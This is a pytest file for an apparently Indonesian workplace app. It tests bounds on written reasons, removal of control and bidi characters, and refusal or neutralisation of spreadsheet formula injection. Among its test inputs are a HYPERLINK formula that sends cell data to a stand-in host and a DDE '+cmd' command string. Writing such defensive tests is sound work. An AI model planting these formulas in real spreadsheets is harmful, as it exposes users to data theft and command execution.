"""One rule for a written reason, whichever feature asks for it."""
import datetime as dt

import pytest

from domain.application import Application
from domain.candidacy import Candidacy
from domain.errors import DomainError
from domain.report import Kendala, Report, ReportKind
from domain.text import (
    REASON_MAX_LENGTH,
    REASON_MIN_LENGTH,
    check_cell_text,
    clean_text,
    neutralise_formula,
    validate_reason,
    validate_text,
)

NOW = dt.datetime(2026, 11, 23, 3, 0, tzinfo=dt.UTC)
AUTHOR, DECIDER = 1, 2


def _application() -> Application:
    app = Application(None, AUTHOR, 10, "Tim Keamanan Informasi", "Saya punya sertifikasi keamanan jaringan.")
    app.submit(DECIDER, NOW)
    return app


def _report() -> Report:
    r = Report(None, ReportKind.MEMBER, AUTHOR, "2026-Q4", text="Modul pelaporan selesai dan diuji.", team_id=5)
    r.submit([DECIDER], NOW)
    return r


GIVE_REASON = {
    "reject application": lambda reason: _application().reject(DECIDER, reason, NOW),
    "return report": lambda reason: _report().return_(DECIDER, reason, NOW),
    "decide kendala": lambda reason: Kendala(None, 5, AUTHOR, "Server uji coba rusak sejak Senin.",
                                             ["Pinjam server dinas lain."], DECIDER).decide(DECIDER, reason, NOW),
    "reject proposal": lambda reason: Candidacy(5, AUTHOR, 3, DECIDER, NOW).reject(DECIDER, reason, NOW),
}


@pytest.mark.parametrize("give", GIVE_REASON.values(), ids=GIVE_REASON.keys())
def test_every_written_reason_has_the_same_bounds(give):
    with pytest.raises(DomainError) as short:
        give("x" * (REASON_MIN_LENGTH - 1))
    assert short.value.code == "text_too_short" and short.value.params["min"] == REASON_MIN_LENGTH
    with pytest.raises(DomainError) as long:
        give("x" * (REASON_MAX_LENGTH + 1))
    assert long.value.code == "text_too_long" and long.value.params["max"] == REASON_MAX_LENGTH
    give("x" * REASON_MIN_LENGTH)
    give("x" * REASON_MAX_LENGTH)


def test_a_reason_is_trimmed():
    assert validate_reason("  Belum sesuai target.  ") == "Belum sesuai target."


# Hardening: text from outside (a spreadsheet, a chat) can carry what a reader never sees
# (control characters, bidi overrides) or what a spreadsheet would run (a formula).
UNSAFE = ["a\x00b", "a\x07b", "a\x1bb", "a\x7fb", "a\x85b", "a\u202ab", "a\u202eb", "a\u2066b", "a\u2069b"]


@pytest.mark.parametrize("text", UNSAFE)
def test_control_and_bidi_characters_are_refused_in_a_cell_and_removed_from_typed_text(text):
    with pytest.raises(DomainError) as err:
        check_cell_text(text)
    assert err.value.code == "unsafe_text" and err.value.params["value"] == "a\N{REPLACEMENT CHARACTER}b"
    assert clean_text(text) == "ab"


def test_typed_text_keeps_line_breaks_and_ordinary_letters():
    text = "Baris satu\n\tBaris dua\r\nNi Luh Putu Ayu — Çelik, Muḥammad"
    assert clean_text(text) == text and check_cell_text("Ni Luh Putu Ayu, S.Kom.") == "Ni Luh Putu Ayu, S.Kom."
    assert validate_text("Tim \u202eKeamanan\u202c Data", 3, 50, "name") == "Tim Keamanan Data"


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+cmd|' /C calc'!A0",
                                  "@SUM(A1)", "-2+3", " =1+1"])
def test_a_cell_starting_like_a_formula_is_refused(text):
    with pytest.raises(DomainError) as err:
        check_cell_text(text)
    assert err.value.code == "formula_text"


@pytest.mark.parametrize("text, safe", [
    ("=1+1", "'=1+1"), ("+62812", "'+62812"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("Budi = Andi", "Budi = Andi"), ("", ""),
    ("199001012015031001", "199001012015031001"),
])
def test_an_exported_cell_never_starts_a_formula(text, safe):
    assert neutralise_formula(text) == safe
